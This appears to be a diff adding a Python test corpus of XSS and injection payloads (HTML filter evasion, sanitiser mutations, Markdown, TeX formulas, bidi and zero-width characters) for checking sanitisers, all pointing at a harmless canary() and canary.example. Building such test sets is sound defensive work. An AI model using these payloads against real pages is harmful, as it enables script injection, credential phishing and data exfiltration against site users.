@@ -1,0 +1,143 @@
+"""Known attacks on pages that show other people's text, each as a model could answer it.
+
+From the OWASP cheat sheet on filter evasion, the write-ups of mutation attacks on sanitisers
+(namespaces of MathML and SVG, noscript, template), CVE-2021-42574 and the manuals of Markdown and
+TeX. Every script calls `canary()`; every address leads to `canary.example`.
+"""
+
+from typing import Final
+
+HTML: Final = (
+    "<script>canary()</script>",
+    "<ScRiPt src=//canary.example/a.js></sCrIpT>",
+    "<scr<script>ipt>canary()</scr</script>ipt>",
+    "<script\x00>canary()</script>",
+    "<script/x>canary()</script>",
+    "<img src=x onerror=canary()>",
+    "<img src=x onerror=canary()//",
+    "<IMG SRC=`javascript:canary()`>",
+    "<img/src='x'/onerror=canary()>",
+    '<img srcset="//canary.example/a.png 1x" src=//canary.example/b.png>',
+    "<picture><source srcset=//canary.example/a.png><img></picture>",
+    "<svg onload=canary()>",
+    "<svg><script>canary()</script></svg>",
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=canary()>#x"/></svg>',
+    "<svg><a xlink:href=javascript:canary()><text y=20>x</text></a></svg>",
+    "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>",
+    "<svg><foreignObject><body onload=canary()></foreignObject></svg>",
+    "<iframe src=javascript:canary()></iframe>",
+    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
+    "<object data=//canary.example/a.swf></object>",
+    "<embed src=javascript:canary()>",
+    "<form action=//canary.example><input name=password><button>Sign in</button></form>",
+    "<form id=x></form><button form=x formaction=javascript:canary()>x</button>",
+    '<meta http-equiv=refresh content="0;url=//canary.example">',
+    "<base href=//canary.example/>",
+    "<style>@import '//canary.example/a.css'; body { background: url(//canary.example/b) }</style>",
+    "<link rel=stylesheet href=//canary.example/a.css>",
+    "<link rel=prefetch href=//canary.example/a>",
+    '<p style="position:fixed;inset:0;background:url(//canary.example/a)">x</p>',
+    "<body onload=canary()>",
+    "<body background=//canary.example/a.png>",
+    "<details open ontoggle=canary()>x</details>",
+    "<video><source onerror=canary()></video>",
+    "<audio src=//canary.example/a.mp3 autoplay onerror=canary()>",
+    "<input autofocus onfocus=canary()>",
+    "<select autofocus onfocus=canary()></select>",
+    "<marquee onstart=canary()>x</marquee>",
+    "<a href=javascript:canary()>x</a>",
+    "<a href='&#106;avascript:canary()'>x</a>",
+    "<div id=content name=content class=skip>x</div>",
+    "<img name=getElementById><form name=body><input id=location>",
+    "<template><img src=x onerror=canary()></template>",
+    "<table background=//canary.example/a.png><td background=//canary.example/b.png>",
+    "<!--><img src=x onerror=canary()>-->",
+    "<![CDATA[<img src=x onerror=canary()>]]>",
+    "<?xml-stylesheet href=//canary.example/a.css?>",
+    "<portal src=//canary.example></portal><fencedframe></fencedframe>",
+    "<custom-element onpointerenter=canary() autofocus tabindex=0>x</custom-element>",
+)
+
+MUTATIONS: Final = (
+    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=canary()>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=canary()></annotation-xml>",
+    "<svg></p><style><a id='</style><img src=x onerror=canary()>'>",
+    "<math><mi><table><mglyph><svg><mtext><textarea>"
+    "<path id='</textarea><img onerror=canary() src=1>'>",
+    "<select><template><style><!--</style>"
+    "<a rel='--></style></template><img src=x onerror=canary()>'>",
+    "<math href=javascript:canary()><mtext>x</mtext></math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>",
+    "<xmp><p title='</xmp><img src=x onerror=canary()>'>",
+    "<title><a title='</title><img src=x onerror=canary()>'></title>",
+    "<plaintext><img src=x onerror=canary()>",
+)
+
+MARKDOWN: Final = (
+    "[x](javascript:canary())",
+    "[x](JaVaScRiPt:canary())",
+    "[x](javascript&#58;canary())",
+    "[x](&#x6A;avascript:canary())",
+    "[x](java\nscript:canary())",
+    "[x](java&Tab;script:canary())",
+    "[x](\x01javascript:canary())",
+    "[x](javascript%3Acanary())",
+    "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:canary())",
+    "[x](<javascript:canary()>)",
+    '[x](https://a.example/"onmouseover=canary()//)',
+    "[x](https://a.example '\"onmouseover=\"canary()')",
+    "[x]: javascript:canary()\n\n[x]",
+    "<javascript:canary()>",
+    "<data:text/html,x>",
+    '<https://a.example/"><img/src=x/onerror=canary()>',
+    "![x](https://canary.example/pixel.png?text=secret)",
+    "![x](javascript:canary())",
+    '![x" onerror="canary()](https://canary.example/x)',
+    "![x][y]\n\n[y]: https://canary.example/pixel.png",
+    "[![x](https://canary.example/pixel.png)](javascript:canary())",
+    "[x](//canary.example/a)",
+    '```" onload="canary()\n<script>canary()</script>\n```',
+    "```html\n<img src=x onerror=canary()>\n```",
+    "`<img src=x onerror=canary()>`",
+    "    <script>canary()</script>",
+    '| <script>canary()</script> |\n|:-" onload=canary()|\n| <img src=x onerror=canary()> |',
+    "&lt;img src=x onerror=canary()&gt; &#60;script&#62;canary()&#60;/script&#62;",
+    "\\<img src=x onerror=canary()>",
+    "# <a id=content name=content>x</a>",
+    "<https://a.example/" + "a" * 3_000 + ">",
+)
+
+FORMULAS: Final = (
+    r"$\href{javascript:canary()}{x}$",
+    r"$\url{javascript:canary()}$",
+    r"$\includegraphics[width=9cm]{https://canary.example/a.png}$",
+    r"$\unicode{x3c}img src=x onerror=canary()\unicode{x3e}$",
+    r"$\style{background:url(https://canary.example/a)}{x}$",
+    r"$\class{x\" onload=\"canary()}{x}$",
+    r"$\cssId{content}{x}$",
+    r"$\text{</mtext></math><img src=x onerror=canary()>}$",
+    r"$\text{&lt;/math&gt;&lt;script&gt;canary()&lt;/script&gt;}$",
+    r"$\mbox{<style><img src=x onerror=canary()></style>}$",
+    r"$\color{red;background:url(//canary.example)}{x}$",
+    r"$$\def\x{\href{javascript:canary()}{y}}\x$$",
+    r"\(\htmlData{onclick=canary()}{x}\) \[\html{<script>canary()</script>}\]",
+    r"$</math><script>canary()</script>$",
+)
+
+INVISIBLE: Final = (
+    "safe\u202e gnp.tac\u202c text",
+    "\u2066if admin\u2069 \u2067then\u2069",
+    "&#8238;abc&#8294;def&#x2067;",
+    "pay\u200bpal\u2060.com\ufeff",
+    "hidden\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
+    "`code\u202e \u2066// end\u2069`",
+    "[a\u202eb](https://a.example/\u202ec)",
+    "<scr\u200bipt>canary()</scr\u200bipt>",
+    "\x00\x08\x1b]0;title\x07\x7f\x9b",
+    "$\\text{a\u202eb}$",
+)
+
+PAYLOADS: Final = HTML + MUTATIONS + MARKDOWN + FORMULAS + INVISIBLE
